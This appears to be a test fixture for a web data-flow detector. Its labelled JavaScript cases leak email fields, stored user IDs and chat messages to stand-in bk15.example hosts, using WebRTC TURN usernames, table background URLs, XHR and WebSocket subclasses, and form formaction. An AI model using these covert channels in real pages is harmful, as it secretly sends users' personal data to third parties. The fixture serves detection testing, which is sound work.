//# configuration-of-map
// no flow
// no destination: turn.com.bk15.example
// why: a map has a method of that name; it opens no connection
class Chart1 { setConfiguration(options) { this.options = options; return this; } }
new Chart1().setConfiguration({ iceServers: [{ urls: 'turn:turn.com.bk15.example:3478', username: localStorage.getItem('uid') }] });

//# configuration-of-peer-in-field
// flow: identifier > cpf.bk15.example via webrtc
class Call2 {
  constructor() { this.pc = new RTCPeerConnection(); }
  join() {
    this.pc.setConfiguration({ iceServers: [{ urls: 'turn:cpf.bk15.example:3478', username: localStorage.getItem('uid'), credential: 'x' }] });
    this.pc.createDataChannel('');
    return this.pc.createOffer().then((o) => this.pc.setLocalDescription(o));
  }
}
new Call2().join();

//# configuration-of-peer-handed-on
// flow: identifier > cph.bk15.example via webrtc
function relay3(peer, user) {
  peer.setConfiguration({ iceServers: [{ urls: ['turn:cph.bk15.example'], username: user, credential: 'y' }] });
}
const peer3 = new RTCPeerConnection();
relay3(peer3, localStorage.getItem('client_id'));
peer3.createDataChannel('x');
peer3.createOffer().then((o) => peer3.setLocalDescription(o));

//# background-of-table-in-markup
// flow: email > btm.bk15.example via image
const box4 = document.createElement('div');
box4.innerHTML = '<table background="https://btm.bk15.example/p?e=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '"></table>';
document.body.append(box4);

//# background-of-paragraph-in-markup
// no flow
// why: a paragraph has no such attribute
const box5 = document.createElement('div');
box5.innerHTML = '<p background="https://bpm.bk15.example/p?e=' + encodeURIComponent(document.querySelector('input[type=email]').value) + '"></p>';
document.body.append(box5);

//# request-subclass
// flow: email > rqs.bk15.example via xhr
class Api6 extends XMLHttpRequest {
  post(data) { this.open('POST', 'https://rqs.bk15.example/a'); this.send(data); }
}
new Api6().post(document.querySelector('input[type=email]').value);

//# request-subclass-of-other
// no flow
// why: a client of its own that sends nothing
class Queue7 { open(method, url) { this.url = url; } send(data) { this.last = data.length; } }
class Api7 extends Queue7 { constructor(url) { super(); this.open('POST', url); } }
new Api7('https://rso.bk15.example/a').send(document.querySelector('input[type=email]').value);

//# socket-subclass
// flow: message > sos.bk15.example via websocket
class Line8 extends WebSocket {
  constructor(room) { super('wss://sos.bk15.example/' + room); }
  say(text) { this.send(JSON.stringify({ text })); }
}
const line8 = new Line8('lobby');
document.querySelector('textarea[name=message]').addEventListener('change', (e) => line8.say(e.target.value));

//# submitter-by-attribute
// flow: email > sba.bk15.example via form
// why: the button that submits says where to
const form9 = document.createElement('form');
form9.method = 'post';
form9.action = '/plain';
const mail9 = document.createElement('input');
mail9.name = 'mail';
mail9.value = document.querySelector('input[type=email]').value;
const button9 = document.createElement('button');
button9.setAttribute('formaction', 'https://sba.bk15.example/in');
form9.append(mail9, button9);
document.body.append(form9);
form9.requestSubmit(button9);

//# button-of-its-own-action-not-used
// flow: email > self via form
// no destination: other.bna.bk15.example
// why: the form is submitted without the button, so that its own action holds
const form10 = document.createElement('form');
form10.method = 'post';
form10.action = '/plain';
const mail10 = document.createElement('input');
mail10.name = 'mail';
mail10.value = document.querySelector('input[type=email]').value;
const button10 = document.createElement('button');
button10.formAction = 'https://other.bna.bk15.example/in';
form10.append(mail10, button10);
document.body.append(form10);
form10.submit();
